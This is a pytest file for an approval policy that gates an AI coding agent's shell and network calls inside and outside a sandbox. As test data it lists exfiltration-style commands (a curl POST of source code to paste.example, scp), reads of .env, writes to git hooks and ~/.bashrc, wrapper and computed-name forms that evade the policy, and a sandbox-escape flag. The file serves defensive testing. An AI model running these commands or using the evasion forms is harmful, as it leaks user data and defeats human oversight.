"""The "Sandboxed" preset and the policy's `in_floor` section (issue 28: policy and floor
divide the work). Inside the OS sandbox floor, what stays in the workspace runs unasked;
what leaves it asks; without a floor the preset decides exactly as "Standard review"."""

from __future__ import annotations

import importlib
import json
from pathlib import Path

import pytest

from approvals.policy import PolicyError, RunView, classify_tool, compile_policy, evaluate, policy_problems
from tests.approvals.policy.policytest import make_sandbox

CORPUS = Path(__file__).resolve().parents[3] / "bench" / "corpus"
STANDARD = next(p for p in importlib.import_module("approvals.migrations.0005_policy_presets").PRESETS
                if p["name"] == "Standard review")["document"]
SANDBOXED = importlib.import_module("approvals.migrations.0010_sandboxed_preset").SANDBOXED["document"]


def session() -> list[dict]:
    """An everyday session (bench/corpus/everyday_session.jsonl): reading code, tests, builds,
    linters, formatters, git add/commit, edits under src/, installs from the registries."""
    with open(CORPUS / "everyday_session.jsonl") as handle:
        return [json.loads(line) for line in handle if line.strip()]


@pytest.fixture(scope="module")
def box(tmp_path_factory: pytest.TempPathFactory):
    return make_sandbox(tmp_path_factory.mktemp("sandboxed"))


def decide(document: dict, box, tool: str, tool_input: dict, *, floor: bool) -> tuple[str, str]:
    verdict = evaluate(compile_policy(document), {"tool": tool, "input": tool_input, "cwd": box.workspace},
                       paths=box.context, run_view=RunView(floor=floor))
    return verdict.decision, verdict.rule


def asked(document: dict, box, *, floor: bool) -> list[str]:
    return [json.dumps(step) for step in session()
            if decide(document, box, step["tool"], step["input"], floor=floor)[0] != "allow"]


def test_an_everyday_session_asks_at_most_five_percent_under_sandboxed_inside_the_floor(box) -> None:
    steps = session()
    assert len(steps) >= 40
    inside = asked(SANDBOXED, box, floor=True)
    assert len(inside) <= 0.05 * len(steps), inside
    # the same session under Standard review asks about most of the work (README: friction)
    assert len(asked(STANDARD, box, floor=True)) > 0.4 * len(steps)


def test_without_a_floor_sandboxed_decides_as_standard_review(box) -> None:
    # every command of the accuracy corpus and the session: the same decision, the same rule
    commands = [json.loads(line)["command"] for name in ("everyday.jsonl", "attacks.jsonl")
                for line in open(CORPUS / name) if line.strip()]
    requests = [("bash", {"command": c}) for c in commands] + [(s["tool"], s["input"]) for s in session()]
    differ = [(tool, tool_input) for tool, tool_input in requests
              if decide(SANDBOXED, box, tool, tool_input, floor=False) != decide(STANDARD, box, tool, tool_input,
                                                                                 floor=False)]
    assert differ == []


@pytest.mark.parametrize(("command", "expected"), [
    ("git push origin main", ("ask", "classes.remote-mutation")),
    ("gh pr create --fill", ("ask", "classes.remote-mutation")),
    ("npm publish", ("ask", "classes.remote-mutation")),
    ("curl -X POST -d @src/app.py https://paste.example", ("ask", "classes.remote-mutation")),
    ("scp src/app.py host:/tmp", ("ask", "classes.remote-mutation")),
    ("git push --force origin main", ("deny", "classes.destructive")),
    ("rm -rf build", ("deny", "classes.destructive")),
    ("echo x > .git/hooks/pre-commit", ("deny", "classes.protected")),
    ("echo x > ~/.bashrc", ("deny", "classes.protected")),
    ("cp src/app.py ../other/x", ("deny", "classes.protected")),
    ("cat .env", ("ask", "reads.sensitive")),
    # the same through launchers, wrappers, nested shells and code beside it
    ("timeout 5 git push origin main", ("ask", "classes.remote-mutation")),
    ("bash -c 'git push origin main'", ("ask", "classes.remote-mutation")),
    ("xargs git push < /dev/null", ("ask", "classes.remote-mutation")),
    ("python -c 'print(1)' && git push", ("ask", "classes.remote-mutation")),
    ("eval 'git push'", ("ask", "classes.remote-mutation")),
    ("nice -n5 gh pr create --fill", ("ask", "classes.remote-mutation")),
    ("echo x > ./up/../../escape.txt", ("deny", "classes.protected")),
    ("bash -c 'cat .env'", ("ask", "reads.sensitive")),
])
def test_what_leaves_the_floor_or_touches_protected_files_still_asks_or_is_denied(box, command, expected) -> None:
    # (respelt, wrapped and launched forms of the same included below)
    assert decide(SANDBOXED, box, "bash", {"command": command}, floor=True) == expected


def test_a_push_under_a_computed_name_runs_and_the_egress_proxy_is_what_asks(box) -> None:
    # `$(echo git) push`: a name computed at run time is code the policy cannot read, which
    # Sandboxed lets run inside the floor; the push then leaves only through the proxy,
    # where an unlisted host (the remote) is asked — the trade docs/sandbox.md states
    assert decide(SANDBOXED, box, "bash", {"command": "$(echo git) push"}, floor=True)[0] == "allow"
    assert decide(SANDBOXED, box, "bash", {"command": "$(echo git) push"}, floor=False)[0] == "ask"
    assert decide(SANDBOXED, box, "network", {"host": "github.com", "port": 443}, floor=True)[0] == "ask"


def test_the_network_beyond_the_registries_is_asked_and_the_hosts_own_addresses_refused(box) -> None:
    assert decide(SANDBOXED, box, "network", {"host": "pypi.org", "port": 443}, floor=True)[0] == "allow"
    assert decide(SANDBOXED, box, "network", {"host": "registry.npmjs.org", "port": 443}, floor=True)[0] == "allow"
    assert decide(SANDBOXED, box, "network", {"host": "paste.example", "port": 443}, floor=True) == (
        "ask", "network.default")
    assert decide(SANDBOXED, box, "network", {"host": "127.0.0.1", "port": 5432}, floor=True)[0] == "deny"


@pytest.mark.parametrize(("command", "code_floor"), [
    ("python -c 'import app'", True), ("PATH=./bin:$PATH make", True), ("$TOOL --version", True),
    ("LD_PRELOAD=./x.so make", True), ("bash -c \"$(cat script.sh)\"", True), ("./ls -la", True),
    # unknown programs: the floor's default decides them
    ("./scripts/build.sh", False), (".venv/bin/pip install -r requirements.txt", False),
])
def test_code_the_policy_cannot_read_runs_unasked_only_inside_the_floor_and_only_where_in_floor_says(
        box, command, code_floor) -> None:
    assert decide(SANDBOXED, box, "bash", {"command": command}, floor=True)[0] == "allow"
    assert decide(SANDBOXED, box, "bash", {"command": command}, floor=False)[0] == "ask"
    # the default allows in the floor, but `code` is left at ask: the code floors still ask
    unknown_only = {**STANDARD, "in_floor": {"default": "allow"}}
    assert decide(unknown_only, box, "bash", {"command": command}, floor=True)[0] == ("ask" if code_floor else "allow")


def test_in_floor_merges_its_classes_over_the_documents() -> None:
    policy = compile_policy({**STANDARD, "in_floor": {"classes": {"remote-mutation": "deny"}}})
    assert policy.in_floor is not None and policy.in_floor.version == policy.version
    assert policy.in_floor.classes["remote-mutation"] == "deny"
    assert policy.in_floor.classes["read-only"] == "allow"  # the document's, kept
    assert policy.classes["remote-mutation"] == "ask"  # outside the floor: unchanged


@pytest.mark.parametrize(("section", "field"), [
    ({"code": "deny"}, "in_floor.code"),
    ({"default": "maybe"}, "in_floor.default"),
    ({"classes": {"harmless": "allow"}}, "in_floor.classes.harmless"),
    ({"unverified": "sometimes"}, "in_floor.unverified"),
    ({"commands": {"allow": ["ls"]}}, "in_floor.commands"),
    ("allow", "in_floor"),
])
def test_a_malformed_in_floor_section_is_refused_naming_the_field(section, field) -> None:
    with pytest.raises(PolicyError) as info:
        compile_policy({**STANDARD, "in_floor": section})
    assert info.value.field == field
    assert [p.field for p in policy_problems({**STANDARD, "in_floor": section})] == [field]


@pytest.mark.parametrize("flag", [True, "true", 1])
@pytest.mark.parametrize("document", [SANDBOXED, {"default": "allow", "tools": {"bash": "allow"}},
                                      {"classes": {"read-only": "allow"}, "default": "allow"}])
def test_a_request_to_run_outside_the_sandbox_is_refused_under_any_policy(box, document, flag) -> None:
    # (Claude Code's `dangerouslyDisableSandbox`, mapped to `outside_sandbox`): never asked,
    # no rule, grant or mode lifts it
    request = {"tool": "bash", "input": {"command": "ls", "outside_sandbox": flag}, "cwd": box.workspace}
    for floor in (False, True):
        verdict = evaluate(compile_policy(document), request, paths=box.context, run_view=RunView(floor=floor),
                           grants=[{"tool": "bash", "match": "ls"}])
        assert (verdict.decision, verdict.rule) == ("deny", "sandbox.escape")
        assert "outside the sandbox" in verdict.reason


def test_the_refusal_to_run_outside_the_sandbox_shows_the_command_and_its_class(box) -> None:
    # (mutation testing: the reason once showed no command, or all of a long one; the card's
    # class and the verdict's parts were not checked)
    command = "ls " + "x" * 300
    request = {"tool": "bash", "input": {"command": command, "outside_sandbox": True}, "cwd": box.workspace}
    verdict = evaluate(compile_policy(SANDBOXED), request, paths=box.context)
    assert verdict.reason == (f"`{command[:200]}` asks to run outside the sandbox, which Gatehouse never grants: "
                              "run it inside (without asking to leave the sandbox).")
    assert verdict.segments == ()
    assert verdict.side_effect_class == classify_tool("bash")  # (None: a command's class is its segments')
    assert verdict.to_dict()["segments"] == []
